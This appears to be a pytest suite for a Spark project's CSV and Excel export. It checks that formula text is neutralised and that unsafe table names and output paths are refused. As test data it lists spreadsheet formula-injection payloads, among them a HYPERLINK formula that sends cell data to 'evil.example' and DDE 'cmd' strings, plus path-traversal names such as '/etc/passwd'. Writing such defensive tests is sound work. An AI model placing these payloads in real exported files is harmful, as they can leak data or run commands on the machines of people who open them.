"""What is handed on as CSV or Excel runs no formula, and comes back as it was."""

from __future__ import annotations

import csv
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from pyspark.sql import functions as F

from recsys_spark.contracts.artifacts import RAW_LINES
from recsys_spark.contracts.errors import ArtifactError, ConfigError
from recsys_spark.export import FORMATS, _table_of, _write, export_table
from recsys_spark.paths import is_below
from recsys_spark.spreadsheet_text import without_formula
from recsys_spark.storage import Storage
from recsys_spark.workbook_writer import SheetColumn, write_workbook
from tests.support.frames import column
from tests.support.lines import raw_lines

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\rx",
    "\nx",
    "  =1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "－cmd",
    "-5 =x",
    "+1-2",
)
HARMLESS = (
    "-5", "-1,234.50", "+3", "-.5", "-1e-3", " -7", "12.5", "LAMP", "A=1", "a-b", "x@y.example", "http://a.example",
    "مصباح", "", "'=1",
)  # fmt: skip


@pytest.fixture
def storage(spark, tmp_path) -> Storage:
    opened = Storage(str(tmp_path / "run"), spark)
    opened.open_root()
    return opened


def publish_lines(storage: Storage, texts) -> None:
    frame = raw_lines(storage.spark, [{"description": text} for text in texts])
    storage.publish("ingest", RAW_LINES.path, storage.stage_table("ingest", RAW_LINES.path, frame, RAW_LINES.schema))


def csv_rows(folder: str) -> list[dict[str, str]]:
    found = []
    for part in sorted(Path(folder).glob("*.csv")):
        with part.open(newline="", encoding="utf-8") as file:
            found += list(csv.DictReader(file))
    return sorted(found, key=lambda row: int(row["source_row"]))


def test_a_text_that_would_run_gets_a_quote_and_a_number_does_not(spark):
    texts = spark.createDataFrame([(text,) for text in (*FORMULAS, *HARMLESS, None)], "text string").coalesce(1)
    found = column(texts.select(without_formula(F.col("text")).alias("text")), "text")
    assert found == [*("'" + text for text in FORMULAS), *HARMLESS, None]


def test_an_exported_csv_holds_no_formula_and_every_text_whole(storage, tmp_path):
    broken_out = 'LAMP",=HYPERLINK("http://evil.example"),"'
    runs = [text for text in FORMULAS if "\x00" not in text]  # which the csv module of Python 3.10 refuses to read
    texts = [*runs, *filter(None, HARMLESS), broken_out, "two\n=lines", "back\\slash", 'a "quoted" b']
    publish_lines(storage, texts)
    out = export_table(storage, "raw_lines", "csv", str(tmp_path / "out"))
    found = csv_rows(out)
    assert [row["description"] for row in found] == [*("'" + text for text in runs), *texts[len(runs) :]]
    assert {row["quantity"] for row in found} == {"2"}
    assert not any(value.startswith(("=", "@", "\t")) for row in found for value in row.values())


def test_negative_numbers_stay_numbers_in_csv(spark, storage, tmp_path):
    frame = raw_lines(spark, [{"quantity": "-3", "line_amount": "-12.50"}])
    storage.publish("ingest", RAW_LINES.path, storage.stage_table("ingest", RAW_LINES.path, frame, RAW_LINES.schema))
    (row,) = csv_rows(export_table(storage, "raw_lines", "csv", str(tmp_path / "out")))
    assert (row["quantity"], row["line_amount"]) == ("-3", "-12.50")


def test_an_exported_workbook_holds_texts_as_texts(storage, tmp_path):
    texts = [text for text in (*FORMULAS, *HARMLESS) if text and "\x00" not in text]
    publish_lines(storage, [*texts, "{=1+1}", "x" * 40_000])
    out = export_table(storage, "raw_lines", "xlsx", str(tmp_path / "out.xlsx"))
    sheet = openpyxl.load_workbook(out).worksheets[0]
    header, *lines = sheet.iter_rows()
    at = [cell.value for cell in header].index("description")
    cells = [line[at] for line in lines]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.hyperlink is None for cell in cells)
    found = [cell.value.replace("_x000D_", "\r") for cell in cells]
    assert found[: len(texts)] == texts
    assert found[-2:] == ["{=1+1}", "x" * 32_766 + "…"]


def test_a_number_that_excel_lacks_is_written_as_text(spark, tmp_path):
    frame = spark.createDataFrame([(1, float("nan")), (2, float("-inf")), (3, -2.5)], "id bigint, value double")
    columns = [SheetColumn("id", "Id"), SheetColumn("value", "Value")]
    write_workbook(frame, columns, ["id"], "Rows", str(tmp_path / "book.xlsx"))
    sheet = openpyxl.load_workbook(tmp_path / "book.xlsx").worksheets[0]
    assert [cell.value for cell in sheet["B"]] == ["Value", "nan", "-inf", -2.5]


@pytest.mark.parametrize("rows", [[], [(1, 0.5)]])
def test_a_workbook_leaves_its_neighbours_alone(spark, tmp_path, rows):
    for name in ("2024", "book.xlsx.7", "book.xlsx.bak"):
        (tmp_path / name).write_text("mine")
    (tmp_path / "1999").mkdir()
    frame = spark.createDataFrame(rows, "id bigint, value double")
    columns = [SheetColumn("id", "Id"), SheetColumn("value", "Value")]
    write_workbook(frame, columns, ["id"], "Rows", str(tmp_path / "book.xlsx"))
    found = [[cell.value for cell in row] for row in openpyxl.load_workbook(tmp_path / "book.xlsx").worksheets[0]]
    assert found == [["Id", "Value"], *map(list, rows)]
    assert {path.name for path in tmp_path.iterdir()} == {"2024", "1999", "book.xlsx", "book.xlsx.7", "book.xlsx.bak"}


def test_attempts_at_a_workbook_that_fail_leave_nothing(spark, tmp_path):
    frame = spark.createDataFrame([(1, "a")], "id bigint, text string").withColumn("text", F.raise_error("odd"))
    with pytest.raises(Exception, match="odd"):
        write_workbook(
            frame, [SheetColumn("id", "Id"), SheetColumn("text", "T")], ["id"], "Rows", str(tmp_path / "b.xlsx")
        )
    assert list(tmp_path.iterdir()) == []


def test_a_table_is_named_with_its_suffix_or_without_and_shards_have_none():
    for name, label in {
        "raw_lines": "raw_lines.parquet",
        "raw_lines.parquet": "raw_lines.parquet",
        "ranker_feats_test_shards": "ranker_feats_test_shards",
    }.items():
        assert _table_of(name)[0] == label


@pytest.mark.parametrize("name", ["../raw_lines", "/etc/passwd", "raw_lines/../../x", "raw_lines\0", "nothing", ""])
def test_a_name_that_is_no_table_is_refused_before_anything_is_touched(storage, tmp_path, name):
    with pytest.raises(ConfigError, match="is no table; there are") as caught:
        export_table(storage, name, "csv", str(tmp_path / "out"))
    assert "\n" not in str(caught.value)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["run"]


def test_a_table_that_no_stage_has_written_is_an_artifact_error(storage, tmp_path):
    with pytest.raises(ArtifactError, match="is missing or was not finished"):
        export_table(storage, "interactions_clean", "csv", str(tmp_path / "out"))


def test_a_place_that_is_taken_is_refused(storage, tmp_path):
    publish_lines(storage, ["LAMP"])
    (tmp_path / "kept.csv").write_text("mine")
    (tmp_path / "dangling").symlink_to(tmp_path / "elsewhere")
    for out in ("kept.csv", "dangling"):
        for form in ("csv", "xlsx", "parquet"):
            for spelled in (str(tmp_path / out), (tmp_path / out).as_uri()):
                with pytest.raises(ConfigError, match="exists already; name another place"):
                    export_table(storage, "raw_lines", form, spelled)
    assert (tmp_path / "kept.csv").read_text() == "mine"
    assert not (tmp_path / "elsewhere").exists()


def test_a_place_among_the_artifacts_is_refused(storage, tmp_path):
    publish_lines(storage, ["LAMP"])
    (tmp_path / "link").symlink_to(storage.root)
    for out in (f"{storage.root}/items_clean.parquet", f"{tmp_path}/x/../run/y", f"{tmp_path}/link/z"):
        with pytest.raises(ConfigError, match="lies among the artifacts"):
            export_table(storage, "raw_lines", "parquet", out)
    with pytest.raises(ConfigError, match="NUL"):
        export_table(storage, "raw_lines", "parquet", "a\0b")


def test_a_relative_place_is_one_of_the_directory_that_export_was_called_in(storage, tmp_path, monkeypatch):
    publish_lines(storage, ["LAMP"])
    monkeypatch.chdir(tmp_path)  # workers were started elsewhere
    assert export_table(storage, "raw_lines", "xlsx", None) == "raw_lines.xlsx"
    assert (tmp_path / "raw_lines.xlsx").exists()


@pytest.mark.parametrize("form", FORMATS)
def test_tasks_of_other_machines_write_below_the_root_and_the_table_is_fetched(storage, tmp_path, monkeypatch, form):
    publish_lines(storage, ["LAMP"])
    monkeypatch.setattr("recsys_spark.export.tasks_run_here", lambda _: False)
    written = []

    def write(*told: object) -> None:
        written.append(told[-1])
        _write(*told)

    monkeypatch.setattr("recsys_spark.export._write", write)
    out = tmp_path / "out"
    export_table(storage, "raw_lines", form, str(out))
    assert [is_below(place, storage.location) for place in written] == [True]
    assert list((tmp_path / "run" / "_staging").glob("export_*")) == []
    if form == "xlsx":
        assert openpyxl.load_workbook(BytesIO(out.read_bytes())).worksheets[0].max_row == 2
    else:
        found = storage.spark.read.options(header=True).format(form).load(out.as_uri())
        assert column(found, "description") == ["LAMP"]


def test_a_workbook_for_a_folder_that_is_missing_is_refused_before_spark_is_asked(tmp_path):
    no_session = Storage(str(tmp_path / "run"))
    no_session.open_root()
    with pytest.raises(ConfigError, match="there is no folder '.*/lists' for '.*/lists/a.xlsx'; make it"):
        export_table(no_session, "raw_lines", "xlsx", str(tmp_path / "lists" / "a.xlsx"))
